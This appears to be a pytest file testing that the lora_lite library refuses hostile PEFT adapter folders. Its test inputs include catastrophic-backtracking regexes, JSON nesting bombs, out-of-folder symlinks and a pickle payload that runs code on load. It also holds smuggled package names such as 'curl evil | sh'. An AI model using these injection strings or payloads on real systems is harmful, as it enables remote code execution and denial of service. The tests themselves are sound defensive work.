"""PEFT adapter folders as untrusted input (issue 11): a hostile adapter_config.json or
adapter_model.safetensors is refused with one line naming the field or tensor, before the model
is touched; rank_pattern / alpha_pattern keys are literal module names (no regex a file can make
slow); the folder is never written. Also: the "variant not installed" message suggests
``pip install`` only for a valid name in lora-lite's namespace."""
import hashlib
import json
import re
import shutil
import struct

import pytest
import torch
from safetensors import safe_open
from safetensors.torch import save_file

import lora_lite as ll
from lora_lite import file_checks
from lora_lite.plugins import not_installed_message
from lora_lite.testing import snapshot_state, state_equal, tiny_llama

peft = pytest.importorskip("peft")
CONFIG, WEIGHTS = "adapter_config.json", "adapter_model.safetensors"
A0 = "base_model.model.model.layers.0.self_attn.q_proj.lora_A.weight"
B0 = "base_model.model.model.layers.0.self_attn.q_proj.lora_B.weight"


@pytest.fixture(scope="module")
def good_folder(tmp_path_factory):
    """One small PEFT LoRA folder (random B, so the adapter does something), written once."""
    folder = tmp_path_factory.mktemp("peft") / "good"
    model = peft.get_peft_model(tiny_llama(), peft.LoraConfig(r=2, lora_alpha=4,
                                                              target_modules=["q_proj", "v_proj"]))
    with torch.no_grad():
        for _, p in model.named_parameters():
            if p.requires_grad:
                p.add_(0.3 * torch.randn(p.shape, generator=torch.Generator().manual_seed(1)))
    model.save_pretrained(str(folder))
    return folder


def _copy(good_folder, tmp_path):
    folder = tmp_path / "peft"
    shutil.copytree(good_folder, folder)
    return folder


def _edit_config(folder, **changes):
    config = json.loads((folder / CONFIG).read_text())
    config.update(changes)
    (folder / CONFIG).write_text(json.dumps(config))


def _edit_tensors(folder, edit):
    with safe_open(str(folder / WEIGHTS), "pt") as f:
        tensors = {k: f.get_tensor(k) for k in f.keys()}
    edit(tensors)
    save_file(tensors, str(folder / WEIGHTS))


def _digest(folder):
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


def _refused(folder, match, error=ll.LoraLiteError):
    """ll.load refuses with one line matching ``match``; the model and folder are untouched."""
    model, files = tiny_llama(), _digest(folder)
    before = snapshot_state(model)
    with pytest.raises(error, match=match) as info:
        ll.load(model, folder)
    assert "\n" not in str(info.value) and len(str(info.value)) < 600, str(info.value)
    assert ll.attached(model) is None
    assert state_equal(snapshot_state(model), before)
    assert _digest(folder) == files
    return str(info.value)


def test_the_good_folder_loads(good_folder):
    model = tiny_llama()
    ll.load(model, good_folder)
    assert ll.attached(model) is not None


# --- 1. rank_pattern / alpha_pattern: literal module names, resolved once ---------------------

@pytest.mark.parametrize("field, key", [
    ("rank_pattern", "(a+)+$"),                       # catastrophic backtracking on a long name
    ("rank_pattern", r"([a-z_.0-9]|[a-z_.0-9])*!"),   # 2**len(name) steps on every module name
    ("alpha_pattern", ".*q_proj"),
    ("rank_pattern", "q_proj|v_proj"),
    ("alpha_pattern", ""),
])
def test_pattern_keys_that_are_not_module_names_are_refused(good_folder, tmp_path, field, key):
    folder = _copy(good_folder, tmp_path)
    _edit_config(folder, **{field: {key: 3}})
    msg = _refused(folder, f"{field}")
    assert repr(key)[:40] in msg and "module name" in msg


@pytest.mark.parametrize("field, value, match", [
    ("rank_pattern", {"q_proj": "8"}, "rank_pattern.*'q_proj'.*positive integer"),
    ("rank_pattern", {"q_proj": True}, "rank_pattern.*'q_proj'.*positive integer"),
    ("rank_pattern", {"q_proj": -2}, "rank_pattern.*'q_proj'.*positive integer"),
    ("alpha_pattern", {"q_proj": float("nan")}, "alpha_pattern.*'q_proj'.*finite number"),
    ("alpha_pattern", {"q_proj": "big"}, "alpha_pattern.*'q_proj'.*finite number"),
    ("rank_pattern", ["q_proj"], "rank_pattern.*JSON object"),
])
def test_pattern_values_of_the_wrong_type_are_refused(good_folder, tmp_path, field, value, match):
    folder = _copy(good_folder, tmp_path)
    _edit_config(folder, **{field: value})
    _refused(folder, match)


def test_pattern_keys_resolve_once_to_per_target_configs(good_folder, tmp_path, monkeypatch):
    """Full names and dotted suffixes match as in PEFT (escaped dots too); after load, no
    override regex is run again: for_target answers from the resolved list."""
    folder = _copy(good_folder, tmp_path)
    _edit_config(folder, alpha_pattern={"proj": 11, "v_proj": 3, r"layers\.1\.self_attn\.q_proj": 5,
                                        "model.layers.0.self_attn.q_proj": 7})
    model = tiny_llama()
    ll.load(model, folder)
    layers = model.model.layers
    assert layers[0].self_attn.v_proj._lora_cfg.alpha == 3
    assert layers[1].self_attn.q_proj._lora_cfg.alpha == 5
    assert layers[0].self_attn.q_proj._lora_cfg.alpha == 7
    assert layers[1].self_attn.v_proj._lora_cfg.alpha == 3   # "proj" is no dotted suffix of it
    ll.save(model, tmp_path / "a.safetensors")
    monkeypatch.setattr(re, "search", lambda *a, **k: pytest.fail("a regex was run"))
    cfg = ll.attached(model).cfg
    assert cfg.for_target("model.layers.1.self_attn.q_proj").alpha == 5


# --- 2. adapter_config.json fields and adapter_model.safetensors tensors ------------------

@pytest.mark.parametrize("changes, match", [
    ({"r": "8"}, "field 'r'.*'8'.*integer"),
    ({"r": True}, "field 'r'.*True.*integer"),
    ({"target_modules": 5}, "field 'target_modules'.*5"),
    ({"target_modules": ["q_proj", 3]}, "field 'target_modules'"),
    ({"lora_alpha": float("inf")}, "field 'lora_alpha'.*inf.*finite number"),
    ({"lora_alpha": float("nan")}, "field 'lora_alpha'.*nan.*finite number"),
    ({"lora_alpha": True}, "field 'lora_alpha'.*True.*finite number"),
    ({"peft_type": 7}, "field 'peft_type'"),
    ({"use_dora": "false"}, "field 'use_dora'.*'false'.*true or false"),  # a truthy string
    ({"use_rslora": 1}, "field 'use_rslora'.*true or false"),
])
def test_config_fields_of_the_wrong_type_are_refused(good_folder, tmp_path, changes, match):
    folder = _copy(good_folder, tmp_path)
    _edit_config(folder, **changes)
    _refused(folder, match)


@pytest.mark.parametrize("text, match", [
    ("[1, 2]", "not a JSON object"),
    ("[" * 100_000 + "]" * 100_000, "not valid JSON"),
    ('{"r": 8, "pad": "' + "x" * (2 * 2**20) + '"}', "bytes, more than"),
])
def test_config_files_that_are_not_a_small_json_object_are_refused(good_folder, tmp_path, text, match):
    folder = _copy(good_folder, tmp_path)
    (folder / CONFIG).write_text(text)
    _refused(folder, match)


@pytest.mark.parametrize("edit, match", [
    (lambda t: t.update({A0: t[A0].to(torch.int32)}), f"{A0}.*I32.*floating point"),
    (lambda t: t.update({A0: t[A0] > 0}), f"{A0}.*BOOL.*floating point"),
    (lambda t: t[A0].view(-1).__setitem__(0, float("nan")), f"{A0}.*NaN or Inf"),
    (lambda t: t[B0].view(-1).__setitem__(3, float("-inf")), f"{B0}.*NaN or Inf"),
    (lambda t: t.pop(B0), "missing tensor 'lora_B.weight'"),
    (lambda t: t.update({A0: torch.zeros(3, 5)}), "lora_A.weight.*shape \\(3, 5\\)"),
])
def test_bad_tensors_are_refused(good_folder, tmp_path, edit, match):
    folder = _copy(good_folder, tmp_path)
    _edit_tensors(folder, edit)
    _refused(folder, match)


def _write_header(path, header_bytes, data=b""):
    path.write_bytes(struct.pack("<Q", len(header_bytes)) + header_bytes + data)


@pytest.mark.parametrize("header, match", [
    (b"[1, 2]", "not a JSON object"),
    (b'"text"', "not a JSON object"),
    (b'{"x": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}', "truncated"),
    (b'{"x": {"dtype": "F32", "shape": "big", "data_offsets": [0, 8]}}', "shape"),
    (b'{"x": 5}', "not an object"),
    (b"{" * 50_000, "unreadable header"),
])
def test_weights_headers_that_are_not_well_formed_are_refused(good_folder, tmp_path, header, match):
    folder = _copy(good_folder, tmp_path)
    _write_header(folder / WEIGHTS, header)
    _refused(folder, match)


@pytest.mark.parametrize("bound, match", [
    ("MAX_HEADER_BYTES", "a header of .* bytes, more than"),
    ("MAX_TENSORS", "holds 8 tensors, more than 3"),
    ("MAX_TARGETS", "adapts 4 modules, more than 3"),
])
def test_weights_files_beyond_the_bounds_are_refused(good_folder, tmp_path, monkeypatch, bound, match):
    folder = _copy(good_folder, tmp_path)
    monkeypatch.setattr(file_checks, bound, 3 if bound != "MAX_HEADER_BYTES" else 100)
    _refused(folder, match)


# --- 3. the "variant not installed" message -------------------------------------------------

@pytest.mark.parametrize("dist, version, install", [
    ("lora-lite-frobnicate", "0.3.1", "pip install lora-lite-frobnicate"),
    ("lora_lite.Frobnicate", "1.0", "pip install lora_lite.Frobnicate"),
    ("evil-package", "6.6.6", None),                      # outside lora-lite's namespace
    ("lora-lite-x; curl evil | sh", "1", None),           # not a distribution name
    ("lora-lite-x --index-url http://evil", "1", None),
    ("lora-lite-" + "x" * 300, "1", None),                 # too long
    ("lora-lite-x\nsecond line", "1\n2", None),
])
def test_not_installed_message_names_the_writer_and_installs_only_our_namespace(dist, version, install):
    msg = not_installed_message("frobnicate", {}, dist, version)
    assert "\n" not in msg and len(msg) < 400, msg
    assert "needs variant 'frobnicate', which is not installed" in msg
    assert "the file says it was written by" in msg
    if install:
        assert msg.endswith(f": {install}") and f"written by {dist} {version}" in msg
    else:
        assert "pip install" not in msg


# --- 3. issue 24: huge ranks, unknown fields, regexes never run, links out, pickles ----------

@pytest.mark.parametrize("changes", [
    {"r": 10**9}, {"r": 2**70}, {"rank_pattern": {"q_proj": 10**9}},
])
def test_a_huge_rank_is_refused_before_anything_is_allocated(good_folder, tmp_path, changes):
    folder = _copy(good_folder, tmp_path)
    _edit_config(folder, **changes)
    _refused(folder, r"r=\d+ would give .*q_proj \(a 64x64 layer\).*more than 4x the layer")


def test_an_unknown_lora_config_field_that_is_set_is_refused(good_folder, tmp_path):
    folder = _copy(good_folder, tmp_path)
    _edit_config(folder, frobnicate=3)
    _refused(folder, r"field 'frobnicate' is set .*does not know")
    _edit_config(folder, frobnicate=None, use_bdlora={"x": 1})  # unset: fine; a newer method: no
    _refused(folder, r"use_bdlora=.*A and B on linear layers only")
    _edit_config(folder, use_bdlora=None)
    ll.load(tiny_llama(), folder)


def test_every_field_of_peft_loraconfig_is_classified():
    """PEFT is the oracle: a field its LoraConfig has that lora-lite neither knows nor refuses
    would be ignored silently; this fails when a PEFT release adds one (classify it)."""
    import dataclasses

    from lora_lite.peft import lora as peft_lora
    fields = {f.name for f in dataclasses.fields(peft.LoraConfig)}
    assert fields - set(peft_lora.KNOWN_FIELDS) - set(peft_lora.UNSUPPORTED_FIELDS) == set()


def _load_within(folder, seconds=30):
    """ll.load in a thread that must finish within ``seconds`` (a regex from the file that were
    run would take 2**len(name) steps)."""
    import threading
    done = {}
    thread = threading.Thread(target=lambda: done.setdefault("info", ll.load(tiny_llama(), folder)),
                              daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), "ll.load hung on a regex from the file"
    return done["info"]


@pytest.mark.parametrize("target_modules", [
    r"([a-z_.0-9]|[a-z_.0-9])*!", [r"([a-z_.0-9]|[a-z_.0-9])*!", "(a+)+$"],
])
def test_catastrophic_target_modules_are_never_run(good_folder, tmp_path, target_modules):
    folder = _copy(good_folder, tmp_path)
    _edit_config(folder, target_modules=target_modules)
    _load_within(folder)  # the targets are the modules the weights name, matched exactly


def _outside_copy(good_folder, tmp_path, name):
    outside = tmp_path / "outside"
    outside.mkdir(exist_ok=True)
    shutil.copy(good_folder / name, outside / name)
    return outside / name


@pytest.mark.parametrize("name", [CONFIG, WEIGHTS])
def test_a_link_out_of_the_folder_is_refused(good_folder, tmp_path, name):
    folder = _copy(good_folder, tmp_path)
    (folder / name).unlink()
    (folder / name).symlink_to(_outside_copy(good_folder, tmp_path, name))
    _refused(folder, rf"{name}: a link to .*outside the adapter folder")


def test_a_link_inside_the_folder_is_fine(good_folder, tmp_path):
    folder = _copy(good_folder, tmp_path)
    (folder / "real.safetensors").write_bytes((folder / WEIGHTS).read_bytes())
    (folder / WEIGHTS).unlink()
    (folder / WEIGHTS).symlink_to("real.safetensors")
    ll.load(tiny_llama(), folder)


class _Payload:
    """Unpickling this creates a marker file: proof that code from the file ran."""
    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


@pytest.mark.parametrize("keep_safetensors", [False, True])
def test_a_pickle_bin_is_never_unpickled(good_folder, tmp_path, keep_safetensors):
    folder = _copy(good_folder, tmp_path)
    marker = tmp_path / "pwned"
    torch.save({"x": _Payload(marker)}, folder / "adapter_model.bin")
    import pickle
    pickle.loads(pickle.dumps(_Payload(tmp_path / "selftest")))  # the payload does work...
    assert (tmp_path / "selftest").exists()
    if keep_safetensors:
        ll.load(tiny_llama(), folder)  # the safetensors file is read, the pickle never
    else:
        (folder / WEIGHTS).unlink()
        _refused(folder, r"adapter_model.bin.*never loads")
    assert not marker.exists()


def test_hub_snapshot_links_into_its_blobs_load_and_links_elsewhere_are_refused(
        good_folder, tmp_path, monkeypatch):
    """A hub cache snapshot's files are links to ``<repo>/blobs``: allowed; out of the repo: no."""
    import os
    hub = pytest.importorskip("huggingface_hub")
    repo = tmp_path / "models--org--name"
    (repo / "blobs").mkdir(parents=True)
    snapshot = repo / "snapshots" / "abc123"
    snapshot.mkdir(parents=True)
    for name in (CONFIG, WEIGHTS):
        shutil.copy(good_folder / name, repo / "blobs" / name)
        (snapshot / name).symlink_to(os.path.relpath(repo / "blobs" / name, snapshot))
    monkeypatch.setattr(hub, "snapshot_download", lambda *a, **kw: str(snapshot))
    ll.load(tiny_llama(), "org/name")
    (snapshot / CONFIG).unlink()
    (snapshot / CONFIG).symlink_to(_outside_copy(good_folder, tmp_path, CONFIG))
    with pytest.raises(ll.AdapterFileError, match="a link to .*outside the adapter folder"):
        ll.load(tiny_llama(), "org/name")
